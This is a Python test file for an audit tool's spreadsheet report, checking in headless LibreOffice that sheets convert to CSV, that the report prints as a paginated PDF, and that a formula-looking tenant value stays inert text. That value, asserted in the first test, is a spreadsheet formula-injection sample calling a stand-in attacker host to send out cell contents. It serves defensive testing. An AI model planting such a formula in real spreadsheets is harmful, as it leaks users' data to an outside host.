"""The workbook opens in a real spreadsheet application (LibreOffice Calc, headless).

The workbook is written by our own streaming writer, so openpyxl reading it back is not proof enough:
here LibreOffice converts every sheet to CSV and the rows, and the neutralised formula, are checked; and it
prints the workbook to PDF (the reviewer's evidence pack): landscape, each sheet one page wide, the header
row repeated on every page.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
from pathlib import Path

from services import unavailable

from auditor.config import AuditorConfig
from auditor.demo import demo_snapshot
from auditor.pipeline import run_audit

ALL_SHEETS_CSV = "csv:Text - txt - csv (StarCalc):44,34,UTF8,1,,0,false,true,false,false,false,-1"


def test_libreoffice_reads_every_sheet_of_the_demo_workbook(tmp_path: Path, soffice: str) -> None:
    outcome = run_audit(AuditorConfig(), demo=True, out_dir=tmp_path / "out", formats=["xlsx"])
    result = outcome.result
    work = tmp_path / "lo"
    work.mkdir()
    env = {**os.environ, "HOME": str(tmp_path)}  # a private LibreOffice profile
    proc = subprocess.run(
        [
            soffice,
            "--headless",
            "--norestore",
            "--convert-to",
            ALL_SHEETS_CSV,
            "--outdir",
            str(work),
            str(outcome.files["xlsx"]),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        env=env,
    )
    assert proc.returncode == 0, proc.stderr

    def sheet(name: str) -> list[list[str]]:
        with open(work / f"report-{name}.csv", newline="", encoding="utf-8") as fh:
            return list(csv.reader(fh))

    findings = sheet("Findings")
    assert len(findings) == len(result.findings) + 1
    assert {"Owner", "Decision", "Due date", "Notes"} <= set(findings[0])
    users = sheet("Users")
    assert len(users) == len(demo_snapshot().records("users")) + 1
    rules = sheet("Rules")
    assert len(rules) == len(result.rules) + 1
    # A tenant value that looks like a formula stays text: LibreOffice shows it as written (no apostrophe,
    # the quote-prefix style marks it), it does not compute it (that would show "Eve").
    hostile = [cell for row in users for cell in row if "HYPERLINK" in cell]
    assert hostile == ['=HYPERLINK("http://attacker.invalid/?x="&A1,"Eve")']


def _convert(soffice: str, source: Path, target: str, work: Path) -> Path:
    proc = subprocess.run(
        [soffice, "--headless", "--norestore", "--convert-to", target, "--outdir", str(work), str(source)],
        capture_output=True,
        text=True,
        timeout=180,
        env={**os.environ, "HOME": str(work)},  # a private LibreOffice profile
    )
    assert proc.returncode == 0, proc.stderr
    return work / f"{source.stem}.{target.split(':')[0]}"


def test_libreoffice_reads_formula_looking_text_as_text(tmp_path: Path, soffice: str) -> None:
    """Opened and saved again by LibreOffice, the formula-looking cell is still text with the tenant's own
    characters (LibreOffice 7.4 writes it back as a plain shared string, without the quote-prefix style)."""
    outcome = run_audit(AuditorConfig(), demo=True, out_dir=tmp_path / "out", formats=["xlsx"])
    (tmp_path / "lo").mkdir()
    again = _convert(soffice, outcome.files["xlsx"], "xlsx", tmp_path / "lo")
    import openpyxl

    cells = [c for row in openpyxl.load_workbook(again)["Users"].iter_rows() for c in row if c.value]
    hostile = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert hostile and all(c.data_type == "s" and str(c.value).startswith("=HYPERLINK") for c in hostile)


def _pdf_pages(pdf: Path) -> list[str]:
    for tool in ("pdftotext", "pdfinfo"):
        if shutil.which(tool) is None:
            unavailable(f"{tool} is not installed (apt-get install poppler-utils)")
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True)
    return text.stdout.split("\f")


def test_the_workbook_prints_as_an_evidence_pack(tmp_path: Path, soffice: str) -> None:
    outcome = run_audit(AuditorConfig(), demo=True, out_dir=tmp_path / "out", formats=["xlsx"])
    (tmp_path / "lo").mkdir()
    pdf = _convert(soffice, outcome.files["xlsx"], "pdf", tmp_path / "lo")
    info = subprocess.run(["pdfinfo", "-l", "999", str(pdf)], capture_output=True, text=True, check=True).stdout
    sizes = re.findall(r"^Page\s+\d+ size:\s+([\d.]+) x ([\d.]+) pts", info, re.M)
    assert sizes and all(float(w) > float(h) for w, h in sizes)  # every page landscape
    pages = [p for p in _pdf_pages(pdf) if p.strip()]
    users = [p for p in pages if p.strip().splitlines()[0].rstrip().endswith("Users")]  # running header
    assert len(users) >= 2  # 200 users: more than one page
    for page in users:  # one page wide (first and last column on every page), header row repeated
        header = next(line for line in page.splitlines() if line.strip())
        assert "Entra Auditor: contoso" in header
        assert "UPN" in page and "User ID" in page and "Display name" in page
    assert all(f"of {len(pages)}" in p for p in pages)  # page numbers
    summary = pages[0]
    assert "Entra Auditor security review" in summary
